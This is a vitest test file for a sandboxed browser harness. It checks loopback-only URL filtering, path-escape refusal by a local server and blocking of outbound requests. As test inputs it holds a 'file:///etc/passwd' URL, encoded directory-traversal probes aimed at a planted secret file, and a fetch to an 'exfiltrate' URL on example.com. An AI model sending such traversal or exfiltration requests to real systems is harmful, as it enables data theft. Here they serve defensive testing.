import { existsSync, mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import {
  describeBrowser,
  isLoopbackUrl,
  launchBrowser,
  openPage,
  screenshot,
  serveDir,
  type Served,
} from './support/browser.js';

it('isLoopbackUrl lets only loopback and inline URLs through', () => {
  for (const ok of [
    'http://127.0.0.1:8080/x',
    'http://localhost/',
    'http://[::1]:9/',
    'data:text/plain,hi',
    'about:blank',
  ])
    expect(isLoopbackUrl(ok), ok).toBe(true);
  for (const bad of [
    'https://example.com/',
    'http://127.0.0.1.example.com/',
    'http://10.0.0.1/',
    'ws://127.0.0.1/',
    'file:///etc/passwd',
    'not a url',
  ])
    expect(isLoopbackUrl(bad), bad).toBe(false);
});

describeBrowser('browser harness: loopback server, chromium, blocked network', () => {
  let browser: Browser;
  let served: Served;
  const root = mkdtempSync(join(tmpdir(), 'harness-'));
  const viewer = join(root, 'viewer-assets');

  beforeAll(async () => {
    mkdirSync(join(root, 'site', 'runs', 'sr1'), { recursive: true });
    writeFileSync(join(root, 'site', 'index.json'), '{"suite_runs":[]}');
    writeFileSync(join(root, 'site', 'runs', 'sr1', 'manifest.json'), '{"ok":1}');
    writeFileSync(join(root, 'secret.txt'), 'outside the site');
    mkdirSync(viewer);
    // The server's page policy allows the viewer's own script files only, as in production.
    writeFileSync(
      join(viewer, 'index.html'),
      '<!doctype html><title>t</title><p id="t">hello from the viewer</p>' +
        '<p id="data"></p><script src="viewer.js"></script>',
    );
    writeFileSync(
      join(viewer, 'viewer.js'),
      'fetch("../index.json").then(r=>r.json())' +
        '.then(j=>{document.getElementById("data").textContent="runs:"+j.suite_runs.length})',
    );
    writeFileSync(join(viewer, 'viewer.css'), '');
    served = await serveDir(join(root, 'site'), { viewerDir: viewer });
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    await served?.close();
  });

  it('serves the results dir at / and the viewer at /viewer/, on 127.0.0.1', async () => {
    expect(served.url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/$/);
    const manifest = await fetch(`${served.url}runs/sr1/manifest.json`);
    expect(manifest.headers.get('content-type')).toContain('application/json');
    expect(await manifest.json()).toEqual({ ok: 1 });
    expect((await fetch(`${served.url}viewer/`)).status).toBe(200);
    // No escape from either root, encoded or not.
    for (const p of ['..%2fsecret.txt', 'viewer/..%2f..%2fsecret.txt', 'nope.json'])
      expect((await fetch(served.url + p)).status, p).toBeGreaterThanOrEqual(400);
  });

  it('opens the page, reads its text and its relative fetch of ../index.json', async () => {
    const { page, blocked } = await openPage(browser);
    await page.goto(served.viewerUrl);
    expect(await page.textContent('#t')).toBe('hello from the viewer');
    await page.waitForFunction(() => document.getElementById('data')?.textContent === 'runs:0');
    expect(blocked).toEqual([]);
    await page.close();
  });

  it('aborts every non-loopback request the page makes', async () => {
    const { page, blocked } = await openPage(browser);
    // The viewer's own page policy (connect-src 'self') would stop this fetch before the
    // context sees it; a page without a policy shows the context's block alone.
    await page.goto('about:blank');
    const outcome = await page.evaluate(async () => {
      try {
        await fetch('https://example.com/exfiltrate?x=1');
        return 'reached';
      } catch (e) {
        return `blocked: ${(e as Error).name}`;
      }
    });
    expect(outcome).toBe('blocked: TypeError');
    expect(blocked).toEqual(['https://example.com/exfiltrate?x=1']);
    // A navigation away is stopped too.
    await expect(page.goto('http://example.org/')).rejects.toThrow();
    expect(blocked).toContain('http://example.org/');
    await page.close();
  });

  it('screenshot writes a PNG to the given dir and refuses a path as a name', async () => {
    const { page } = await openPage(browser, { viewport: { width: 400, height: 300 } });
    await page.goto(served.viewerUrl);
    const shots = join(root, 'shots');
    const file = await screenshot(page, 'harness', shots);
    expect(file).toBe(join(shots, 'harness.png'));
    expect(existsSync(file)).toBe(true);
    await expect(screenshot(page, '../escape', shots)).rejects.toThrow(/plain file name/);
    await page.close();
  });
});
